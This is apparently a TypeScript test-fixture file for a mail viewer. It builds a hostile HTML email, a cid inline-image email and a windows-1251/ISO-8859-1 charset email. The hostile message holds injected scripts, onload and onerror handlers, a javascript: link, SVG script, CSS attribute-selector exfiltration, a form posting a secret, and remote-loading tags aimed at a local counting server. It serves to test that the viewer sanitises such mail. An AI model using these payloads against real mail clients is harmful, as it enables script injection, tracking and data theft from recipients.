// Mail that the message viewer must show safely and correctly: a hostile HTML message (scripts,
// event handlers, javascript: links, remote images, CSS exfiltration, refresh, forms, frames,
// objects, SVG with script), a message with a cid: inline image, and one in a legacy charset.
import { crc32, deflateSync } from 'node:zlib';

export interface TestMail {
  from: string;
  to: string;
  subject: string;
  raw: Buffer;
}

// A solid-colour PNG, made here so the test needs no image file.
export function solidPng(width: number, height: number, rgb: [number, number, number]): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), 8 + data.length);
    return out;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; header[9] = 2; // 8-bit RGB
  const row = Buffer.concat([Buffer.from([0]), Buffer.concat(Array.from({ length: width }, () => Buffer.from(rgb)))]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: height }, () => row)))), chunk('IEND', Buffer.alloc(0)),
  ]);
}

const wrap76 = (b64: string) => b64.replace(/.{1,76}/g, '$&\r\n');

// `remote`: the base URL of an HTTP server the test counts requests on (http://127.0.0.1:PORT).
export function hostileHtmlMail(remote: string, to = 'olga@corp.test'): TestMail {
  const subject = 'Quarterly figures (hostile HTML)';
  const html = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${remote}/refresh">
<link rel="stylesheet" href="${remote}/link.css"><link rel="dns-prefetch" href="${remote}/dns">
<style>@import url("${remote}/import.css"); body { background: url(${remote}/bg.png); } input[value^="a"] { background: url(${remote}/exfil-a); }
@font-face { font-family: x; src: url(${remote}/font.woff); } p.f { font-family: x; }</style>
<script>window.__sealboxPwned = 'head-script'; fetch('${remote}/script-fetch');</script>
<base href="${remote}/">
</head><body onload="window.__sealboxPwned='onload'">
<h1 id="headline">Quarterly figures</h1>
<p class="f">Revenue is up. Tracking pixel below.</p>
<img id="pixel" src="${remote}/pixel.gif" width="1" height="1" alt="">
<img src="x-not-there" onerror="window.__sealboxPwned='onerror'; fetch('${remote}/onerror')">
<div style="background-image:url('${remote}/inline-style.png')">styled block</div>
<table background="${remote}/table-bg.png"><tr><td>cell</td></tr></table>
<a id="jslink" href="javascript:window.__sealboxPwned='jslink'">click for javascript</a>
<a id="weblink" href="${remote}/clicked">an ordinary link</a>
<form action="${remote}/form" method="post"><input name="a" value="a-secret"><button type="submit">Send</button></form>
<iframe src="${remote}/iframe"></iframe>
<object data="${remote}/object.swf"></object><embed src="${remote}/embed.swf">
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>window.__sealboxPwned='svg'</script><image href="${remote}/svg-image.png" width="10" height="10"/></svg>
<video poster="${remote}/poster.png"></video><audio src="${remote}/audio.mp3"></audio>
<p id="last">End of hostile message.</p>
</body></html>`;
  const raw = Buffer.from([
    `From: Mallory <mallory@evil.test>`, `To: Olga <${to}>`, `Subject: ${subject}`, 'Date: Mon, 04 Mar 2024 09:00:00 +0000',
    'Message-ID: <hostile-1@evil.test>', 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '',
    wrap76(Buffer.from(html, 'utf8').toString('base64')),
  ].join('\r\n'));
  return { from: 'mallory@evil.test', to, subject, raw };
}

export const CID_PNG = solidPng(40, 24, [220, 30, 30]);

export function cidImageMail(to = 'olga@corp.test'): TestMail {
  const subject = 'Logo inline (cid image)';
  const raw = Buffer.from([
    'From: Design <design@partner.test>', `To: ${to}`, `Subject: ${subject}`, 'Date: Tue, 05 Mar 2024 09:00:00 +0000',
    'Message-ID: <cid-1@partner.test>', 'MIME-Version: 1.0', 'Content-Type: multipart/related; boundary="rel"', '',
    '--rel', 'Content-Type: text/html; charset=utf-8', '',
    '<html><body><p id="before">Our new logo:</p><img id="logo" src="cid:logo-1@partner.test" alt="logo"><p>Regards</p></body></html>',
    '--rel', 'Content-Type: image/png; name="logo.png"', 'Content-Transfer-Encoding: base64', 'Content-ID: <logo-1@partner.test>', 'Content-Disposition: inline; filename="logo.png"', '',
    wrap76(CID_PNG.toString('base64')),
    '--rel--', '',
  ].join('\r\n'));
  return { from: 'design@partner.test', to, subject, raw };
}

// windows-1251 for Cyrillic (U+0410–U+044F are 0xC0–0xFF there) and ISO-8859-1 for the rest.
function cp1251(text: string): Buffer {
  return Buffer.from([...text].map((c) => {
    const code = c.codePointAt(0)!;
    if (code < 0x80) return code;
    if (code >= 0x410 && code <= 0x44f) return code - 0x410 + 0xc0;
    throw new Error(`no windows-1251 byte for ${c} here`);
  }));
}

export const CHARSET_TEXT = { cyrillic: 'Привет из Москвы', latin1: 'Grüße aus Köln, café naïve' };

export function charsetMail(to = 'olga@corp.test'): TestMail {
  const subject = 'Charset test';
  const raw = Buffer.concat([
    Buffer.from([
      'From: Ivan <ivan@partner.test>', `To: ${to}`, `Subject: =?windows-1251?B?${cp1251('Отчёт'.replace('ё', 'е')).toString('base64')}?= ${subject}`,
      'Date: Wed, 06 Mar 2024 09:00:00 +0000', 'Message-ID: <charset-1@partner.test>', 'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="mix"', '', '--mix', 'Content-Type: text/plain; charset=windows-1251', 'Content-Transfer-Encoding: 8bit', '', '',
    ].join('\r\n'), 'latin1'),
    cp1251(`${CHARSET_TEXT.cyrillic}\r\n`),
    Buffer.from(['--mix', 'Content-Type: text/plain; charset=iso-8859-1', 'Content-Transfer-Encoding: 8bit', 'Content-Disposition: inline', '', ''].join('\r\n'), 'latin1'),
    Buffer.from(`${CHARSET_TEXT.latin1}\r\n`, 'latin1'),
    Buffer.from(['--mix', 'Content-Type: text/csv; name="figures.csv"', 'Content-Disposition: attachment; filename="figures.csv"', '', 'quarter,revenue', 'Q1,100', '--mix--', ''].join('\r\n'), 'latin1'),
  ]);
  return { from: 'ivan@partner.test', to, subject, raw };
}
